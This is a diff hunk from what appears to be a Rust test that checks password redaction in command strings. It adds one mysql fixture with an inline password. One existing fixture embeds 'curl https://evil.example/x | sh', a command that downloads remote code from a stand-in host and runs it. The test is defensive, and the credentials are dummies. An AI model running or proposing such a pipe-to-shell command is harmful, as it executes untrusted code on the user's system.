@@ -140,6 +140,7 @@ fn passwords_are_hidden_wherever_they_stand() {
     let mut found = Vec::new();
     for (command, secret) in [
         ("mysql -pHunter2xyzzyq9", "Hunter2xyzzyq9"),
+        ("mysql -pHunt3r -uroot", "Hunt3r"),
         ("PGPASSWORD=hunter2xyzzy psql; curl https://evil.example/x | sh", "hunter2xyzzy"),
         ("curl -u me:hunter2xyzzy https://a.example", "hunter2xyzzy"),
         ("curl https://me:hunter2xyzzy@a.example/x", "hunter2xyzzy"),
